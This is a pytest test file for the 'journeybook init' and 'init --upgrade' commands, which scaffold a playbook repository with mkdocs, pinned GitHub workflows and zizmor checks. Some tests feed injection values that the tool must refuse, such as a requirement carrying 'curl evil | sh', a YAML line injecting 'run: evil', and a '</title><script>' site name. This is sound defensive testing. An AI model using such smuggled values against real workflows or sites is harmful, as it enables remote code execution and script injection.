"""`journeybook init`: a new playbook repository that checks, builds, passes zizmor and
deploys with mike; and `init --upgrade`, which changes only what the templates change."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
from ruamel.yaml import YAML

from journeybook.authoring.init import CMS_WORKFLOW, OWNED, RECORD, installable, running_version
from journeybook.authoring.scaffold import scaffold
from journeybook.authoring.schema import journey_schema
from journeybook.cli import main
from journeybook.i18n import init_words

BIN = Path(sys.executable).parent
ENV = {**os.environ, "PATH": str(BIN) + os.pathsep + os.environ.get("PATH", ""),
       "NO_MKDOCS_2_WARNING": "1", "GIT_AUTHOR_NAME": "CX team",
       "GIT_AUTHOR_EMAIL": "cx@example.com", "GIT_COMMITTER_NAME": "CX team",
       "GIT_COMMITTER_EMAIL": "cx@example.com"}


def run(folder: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    # From the playbook's folder, as its editors and its workflows run these.
    result = subprocess.run(list(args), cwd=folder, env=ENV, capture_output=True, text=True)
    if check:
        assert result.returncode == 0, result.stdout + result.stderr
    return result


@pytest.fixture(scope="module", params=["vi", "en"])
def playbook(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A playbook in each language: the Vietnamese one with the form editor."""
    folder = tmp_path_factory.mktemp(f"init-{request.param}") / "my-playbook"
    cms = ["--cms"] if request.param == "vi" else []
    assert main(["init", str(folder), "--language", request.param,
                 "--repo-url", "https://github.com/example/playbook", *cms]) == 0
    return folder


def workflow(folder: Path, name: str) -> dict:
    return YAML(typ="safe").load((folder / ".github" / "workflows" / name).read_text("utf-8"))


def test_the_new_playbook_checks_and_builds_strict(playbook: Path) -> None:
    checked = run(playbook, str(BIN / "journeybook"), "check").stdout
    assert "1 journey" in checked or "1 hành trình" in checked, checked
    run(playbook, str(BIN / "journeybook"), "fmt", "--check")
    run(playbook, str(BIN / "mkdocs"), "build", "--strict")
    site = playbook / "site"
    [journey] = (playbook / "journeys").iterdir()
    assert (site / "journeys" / journey.name / "index.html").is_file()
    # The glossary reaches the generated pages, the palette toggles, the edit button points
    # at GitHub.
    overview = (site / "journeys" / journey.name / "index.html").read_text("utf-8")
    assert '<abbr title="Net Promoter Score' in overview
    home = (site / "index.html").read_text("utf-8")
    assert 'data-md-color-scheme="slate"' in home
    assert "https://github.com/example/playbook/edit/main/content/index.md" in home
    # The pull-request workflow's offline link check passes on it.
    lychee = shutil.which("lychee") or str(BIN / "lychee")
    if Path(lychee).exists():
        run(playbook, lychee, "--offline", "--no-progress", "--root-dir", str(site),
            f"{site}/**/*.html")


def test_the_pages_speak_the_chosen_language(playbook: Path) -> None:
    config = (playbook / "mkdocs.yml").read_text("utf-8")
    language = YAML(typ="rt").load(config)["theme"]["language"]
    readme = (playbook / "README.md").read_text("utf-8")
    if language == "vi":
        assert "Xem trang trên máy của bạn" in readme
        assert (playbook / "content" / "de-xuat-thay-doi.md").is_file()
        assert (playbook / "journeys" / "doi-tra-don-hang" / "journey.yaml").is_file()
    else:
        assert "See the site on your computer" in readme
        assert (playbook / "content" / "propose-a-change.md").is_file()
    for setting in ("strict: true", "alias_type: copy", "provider: mike",
                    "slugify: !!python/name:journeybook.slug.toc_slugify",
                    "auto_append: [glossary.md]", "glossary: includes/glossary.md"):
        assert setting in config, setting
    ignored = (playbook / ".gitignore").read_text("utf-8").split()
    assert {"/site/", ".cache/", "node_modules/"} <= set(ignored)


def test_the_workflows_install_journeybook_pinned_and_run_the_checks(playbook: Path) -> None:
    _, release = running_version()
    pr, deploy = workflow(playbook, "pr.yml"), workflow(playbook, "deploy.yml")
    for flow in (pr, deploy):
        [job] = flow["jobs"].values()
        commands = "\n".join(step.get("run", "") for step in job["steps"])
        # The requirement reaches pip as one quoted word from the environment, never as
        # part of the script.
        [install] = [step for step in job["steps"] if step.get("name") == "Install"]
        assert install["env"]["JOURNEYBOOK"] == f"journeybook=={release}"
        assert 'pip install "$JOURNEYBOOK"' in install["run"]
        assert "pip install -e" not in commands and "pytest" not in commands
        for step in job["steps"]:
            if "uses" in step:
                assert len(step["uses"].split("@")[1]) == 40, step["uses"]
    [job] = pr["jobs"].values()
    commands = "\n".join(step.get("run", "") for step in job["steps"])
    order = [commands.index(c) for c in ("journeybook check", "journeybook fmt --check",
                                          "mkdocs build --strict", 'journeybook diff "origin/',
                                          "lychee --offline")]
    assert order == sorted(order)
    assert '>> "$GITHUB_STEP_SUMMARY"' in commands
    [job] = deploy["jobs"].values()
    commands = "\n".join(step.get("run", "") for step in job["steps"])
    assert "mike deploy --push dev" in commands and "mike set-default --push latest" in commands
    hooks = YAML(typ="safe").load((playbook / ".pre-commit-config.yaml").read_text("utf-8"))
    assert hooks["repos"][0]["rev"] == f"v{release}"


def test_the_workflows_pass_zizmor(playbook: Path) -> None:
    zizmor = shutil.which("zizmor") or str(BIN / "zizmor")
    if not Path(zizmor).exists():
        pytest.skip("zizmor is not installed (pip install -e '.[test]')")
    result = subprocess.run([zizmor, "--offline", "--no-progress",
                             str(playbook / ".github" / "workflows")],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_init_refuses_a_folder_that_is_not_empty(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "notes.txt").write_text("ours\n", "utf-8")
    assert main(["init", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "not empty" in err and "--force" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt"]
    # --force writes the playbook beside it, and says what it overwrote.
    (tmp_path / "README.md").write_text("old\n", "utf-8")
    assert main(["init", str(tmp_path), "--force"]) == 0
    assert f"overwritten: {tmp_path / 'README.md'}" in capsys.readouterr().out
    assert (tmp_path / "notes.txt").read_text("utf-8") == "ours\n"
    assert main(["init", str(tmp_path), "--repo-url", "github.com/x"]) == 1
    assert "error: --repo-url must be a web address" in capsys.readouterr().err
    # The theme prints the site name as HTML (every page's <title>): no markup in it.
    assert main(["init", str(tmp_path / "new"), "--site-name", "A</title><script>x()"]) == 1
    assert "error: --site-name cannot hold <, > or &" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()


@pytest.mark.slow
def test_mike_deploys_the_new_playbook(tmp_path: Path) -> None:
    folder = tmp_path / "playbook"
    assert main(["init", str(folder), "--language", "en"]) == 0
    run(folder, "git", "init", "-q", "-b", "main")
    run(folder, "git", "add", "-A")
    run(folder, "git", "commit", "-q", "-m", "playbook")
    run(folder, str(BIN / "mike"), "deploy", "2026.1", "latest", "--update-aliases")
    run(folder, str(BIN / "mike"), "set-default", "latest")
    assert run(folder, str(BIN / "mike"), "list").stdout.splitlines() == ["2026.1 [latest]"]
    listing = run(folder, "git", "ls-tree", "-r", "--name-only", "gh-pages").stdout.split()
    assert "latest/journeys/return-an-order/index.html" in listing
    assert "2026.1/index.html" in listing and "versions.json" in listing


def upgraded(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run(folder, str(BIN / "journeybook"), "init", "--upgrade", *args, check=False)


def test_upgrade_shows_only_the_template_changes_and_keeps_the_teams(tmp_path: Path) -> None:
    folder = tmp_path / "playbook"
    assert main(["init", str(folder), "--language", "vi"]) == 0
    assert upgraded(folder).returncode == 0
    assert "up to date" in upgraded(folder).stdout
    # A playbook made by an older Journeybook whose templates set up Python 3.11 and ignored
    # less: what it wrote is in the record, and in the files.
    record_path = folder / RECORD
    record = json.loads(record_path.read_text("utf-8"))
    old = {path: record["files"][path] for path in OWNED if path in record["files"]}
    old[".github/workflows/pr.yml"] = old[".github/workflows/pr.yml"].replace(
        'python-version: "3.12"', 'python-version: "3.11"')
    old[".gitignore"] = old[".gitignore"].replace("node_modules/\n", "")
    record["files"] = old
    record_path.write_text(json.dumps(record), "utf-8")
    for path, text in old.items():
        (folder / path).write_text(text, "utf-8")
    # Since then, the team added a step to the PR workflow and edited the PR template.
    pr = folder / ".github" / "workflows" / "pr.yml"
    team_step = "      - name: Spell-check the pages\n        run: echo codespell\n\n"
    pr.write_text(pr.read_text("utf-8").replace(
        "      - name: Build the site (strict)\n",
        team_step + "      - name: Build the site (strict)\n"), "utf-8")
    template = folder / ".github" / "PULL_REQUEST_TEMPLATE.md"
    template.write_text(template.read_text("utf-8") + "- [ ] Đã báo cho trưởng nhóm.\n", "utf-8")
    journey = next((folder / "journeys").glob("*/journey.yaml"))
    journey_text = journey.read_text("utf-8")
    (folder / "mkdocs.yml").write_text("site_name: Của chúng tôi\n", "utf-8")

    shown = upgraded(folder)
    assert shown.returncode == 0, shown.stderr
    diff = shown.stdout
    # Only the template's changes: Python 3.12 and node_modules, not the team's step.
    assert '-          python-version: "3.11"\n+          python-version: "3.12"' in diff
    assert "+node_modules/" in diff
    assert "Spell-check" not in diff and "trưởng nhóm" not in diff
    assert "mkdocs.yml" not in diff and "journey.yaml" not in diff
    assert "--- a/.github/PULL_REQUEST_TEMPLATE.md" not in diff
    assert 'python-version: "3.11"' in pr.read_text("utf-8")  # nothing written yet

    assert upgraded(folder, "--write").returncode == 0
    text = pr.read_text("utf-8")
    assert 'python-version: "3.12"' in text and team_step in text
    assert "node_modules/" in (folder / ".gitignore").read_text("utf-8")
    assert "trưởng nhóm" in template.read_text("utf-8")
    assert journey.read_text("utf-8") == journey_text
    assert (folder / "mkdocs.yml").read_text("utf-8") == "site_name: Của chúng tôi\n"
    assert "up to date" in upgraded(folder).stdout


def test_upgrade_reports_a_conflict_and_leaves_the_file(tmp_path: Path) -> None:
    folder = tmp_path / "playbook"
    assert main(["init", str(folder)]) == 0
    record_path = folder / RECORD
    record = json.loads(record_path.read_text("utf-8"))
    pr = folder / ".github" / "workflows" / "pr.yml"
    record["files"][".github/workflows/pr.yml"] = pr.read_text("utf-8").replace(
        '"3.12"', '"3.11"')
    record_path.write_text(json.dumps(record), "utf-8")
    pr.write_text(pr.read_text("utf-8").replace('"3.12"', '"3.10"'), "utf-8")  # the team's

    result = upgraded(folder, "--write")
    assert result.returncode == 1
    assert f"conflict: {Path('.') / '.github/workflows/pr.yml'}" in result.stderr
    assert '+          python-version: "3.12"' in result.stderr  # the template's own change
    assert '"3.10"' in pr.read_text("utf-8")


def test_upgrade_outside_a_playbook_says_what_to_do(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", "--upgrade", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and RECORD in err and "Traceback" not in err


def test_a_development_build_is_pinned_to_a_release_the_index_can_have() -> None:
    assert installable("0.1.0") == "0.1.0"
    assert installable("0.2.0.dev3+g1a2b3c") == "0.2.0"
    assert installable("0.2.0+ubuntu1") == "0.2.0"
    assert installable("0.2.0rc1") == "0.2.0rc1"


# --- What the playbook points at exists -----------------------------------------------------


def test_every_reference_of_the_new_playbook_resolves(playbook: Path) -> None:
    """The README's sections, the files and pages it names, the schema every journey's first
    line names, the example's pointer to the README: all there."""
    readme = (playbook / "README.md").read_text("utf-8")
    words = init_words(json.loads((playbook / RECORD).read_text("utf-8"))["language"])
    headings = re.findall(r"^## (.+)$", readme, re.M)
    # The contents list names every section, and every section is listed.
    listed = re.findall(r"^\d+\. (.+)$", readme.split("\n## ", 1)[0], re.M)
    assert listed == headings
    # The scaffold's and the example's comment send authors to "Writing a journey".
    assert words["readme_write_title"] in headings
    example = next((playbook / "journeys").glob("*/journey.yaml"))
    first_line = example.read_text("utf-8").splitlines()[0]
    assert first_line == "# yaml-language-server: $schema=../../schema/journey.schema.json"
    schema = (example.parent / "../../schema/journey.schema.json").resolve()
    assert json.loads(schema.read_text("utf-8")) == journey_schema()
    jsonschema.validate(YAML(typ="safe").load(example.read_text("utf-8")), journey_schema())
    # Every file or folder the README names in backticks exists (placeholders aside).
    for named in re.findall(r"`((?:journeys|content|schema|\.github|includes)/[^`<]+)`", readme):
        assert (playbook / named).exists(), named
    # Every relative link of the pages resolves; the README's links go to the web.
    for link in re.findall(r"\]\(([^)]+)\)", readme):
        assert link.startswith("https://"), link
    # The section `journeybook new`'s comment sends authors to (in quotes) is a heading here.
    language = json.loads((playbook / RECORD).read_text("utf-8"))["language"]
    [pointer] = [line for line in scaffold("bao-hanh", language=language).splitlines()
                 if "README.md" in line]
    section = re.search(r'README\.md[^"]*"([^"]+)"', pointer)
    assert section is not None and section.group(1) in headings, pointer


def test_the_edit_pencil_is_promised_only_with_a_repository(tmp_path: Path) -> None:
    """Without repo_url the site has no "Edit this page" button: the README and the page on
    proposing a change say how to turn it on and what to do meanwhile."""
    with_repo, without = tmp_path / "with", tmp_path / "without"
    assert main(["init", str(with_repo), "--repo-url", "https://github.com/o/p"]) == 0
    assert main(["init", str(without)]) == 0
    words = init_words("en")
    readme, page = (without / "README.md").read_text("utf-8"), (
        without / "content" / "propose-a-change.md").read_text("utf-8")
    assert words["readme_propose_no_pencil"] in readme and "repo_url" in readme
    assert "Edit this page" not in page.split("## Steps")[1].split("\n4.")[0]
    assert "\nrepo_url:" not in (without / "mkdocs.yml").read_text("utf-8")
    page = (with_repo / "content" / "propose-a-change.md").read_text("utf-8")
    assert "*Edit this page*" in page
    assert "\nrepo_url:" in (with_repo / "mkdocs.yml").read_text("utf-8")


def test_cms_turns_the_form_editor_on_with_its_workflow(playbook: Path) -> None:
    config = YAML(typ="rt").load((playbook / "mkdocs.yml").read_text("utf-8"))
    [options] = [entry["journeybook"] for entry in config["plugins"]
                 if isinstance(entry, dict) and "journeybook" in entry]
    cms_workflow = playbook / CMS_WORKFLOW
    if config["theme"]["language"] != "vi":  # the English playbook was made without --cms
        assert "cms" not in options and not cms_workflow.exists()
        return
    assert options["cms"] is True and options["edit_in_cms"] is True
    flow = workflow(playbook, "cms.yml")
    assert flow["on"]["push"]["branches"] == ["cms/**"]
    [job] = flow["jobs"].values()
    commands = "\n".join(step.get("run", "") for step in job["steps"])
    assert "journeybook fmt --like origin/main" in commands
    assert "gh workflow run pr.yml" in commands
    assert "workflow_dispatch" in workflow(playbook, "pr.yml")["on"]
    readme = (playbook / "README.md").read_text("utf-8")
    assert "npx decap-server" in readme and "127.0.0.1" in readme
    assert "cms_base_url" in readme


@pytest.mark.parametrize("spec, pinned", [
    ("journeybook==0.3.0", "journeybook==0.3.0"),
    ("journeybook @ https://github.com/journeybook/journeybook/releases/download/v0.3.0/"
     "journeybook-0.3.0-py3-none-any.whl",
     "journeybook @ https://github.com/journeybook/journeybook/releases/download/v0.3.0/"
     "journeybook-0.3.0-py3-none-any.whl"),
    ("journeybook @ git+https://github.com/journeybook/journeybook@v0.3.0",
     "journeybook @ git+https://github.com/journeybook/journeybook@v0.3.0"),
])
def test_tool_writes_the_requirement_everywhere(tmp_path: Path, spec: str, pinned: str) -> None:
    folder = tmp_path / "playbook"
    assert main(["init", str(folder), "--tool", spec, "--cms",
                 "--repo-url", "https://github.com/o/p"]) == 0
    for name in ("pr.yml", "deploy.yml", "cms.yml"):
        [job] = workflow(folder, name)["jobs"].values()
        [install] = [step for step in job["steps"] if step.get("name") == "Install"]
        assert install["env"]["JOURNEYBOOK"] == pinned, name
    assert f'pip install "{pinned}"' in (folder / "README.md").read_text("utf-8")
    assert json.loads((folder / RECORD).read_text("utf-8"))["tool"] == spec
    zizmor = shutil.which("zizmor") or str(BIN / "zizmor")
    if Path(zizmor).exists():
        result = subprocess.run([zizmor, "--offline", "--no-progress",
                                 str(folder / ".github" / "workflows")],
                                capture_output=True, text=True)
        assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("spec, says", [
    ("mkdocs==1.6", "not journeybook"),
    ("journeybook", "names no version"),
    ("journeybook @ file:///home/me/journeybook-0.3.0-py3-none-any.whl", "https://"),
    ('journeybook==0.3.0"; curl evil | sh; "', "characters"),
    ("journeybook==0.3.0\n  run: evil", "characters"),
    ("journeybook=0.3", "not a pip requirement"),
])
def test_tool_refuses_what_a_workflow_cannot_install(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str, says: str) -> None:
    assert main(["init", str(tmp_path / "p"), "--tool", spec]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: --tool") and says in err and "Traceback" not in err
    assert not (tmp_path / "p").exists()


@pytest.mark.parametrize("repo", [[], ["--repo-url", "https://gitlab.com/org/playbook"]])
def test_cms_needs_a_github_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                       repo: list[str]) -> None:
    """The editor's backend is GitHub: without its repository nothing could be saved."""
    assert main(["init", str(tmp_path / "p"), "--cms", *repo]) == 1
    assert "--cms needs --repo-url with the playbook's GitHub repository" in \
        capsys.readouterr().err
    assert not (tmp_path / "p").exists()


def test_upgrade_adds_the_form_editor_and_moves_the_pin(tmp_path: Path) -> None:
    folder = tmp_path / "playbook"
    assert main(["init", str(folder), "--language", "vi", "--tool", "journeybook==0.0.9"]) == 0
    result = upgraded(folder, "--cms", "--tool", "journeybook==0.0.10", "--write")
    assert result.returncode == 0, result.stderr
    assert (folder / CMS_WORKFLOW).is_file()
    assert "cms: true" in result.stdout  # says what to set in mkdocs.yml, which it never edits
    [job] = workflow(folder, "pr.yml")["jobs"].values()
    [install] = [step for step in job["steps"] if step.get("name") == "Install"]
    assert install["env"]["JOURNEYBOOK"] == "journeybook==0.0.10"
    record = json.loads((folder / RECORD).read_text("utf-8"))
    assert record["cms"] is True and CMS_WORKFLOW in record["files"]
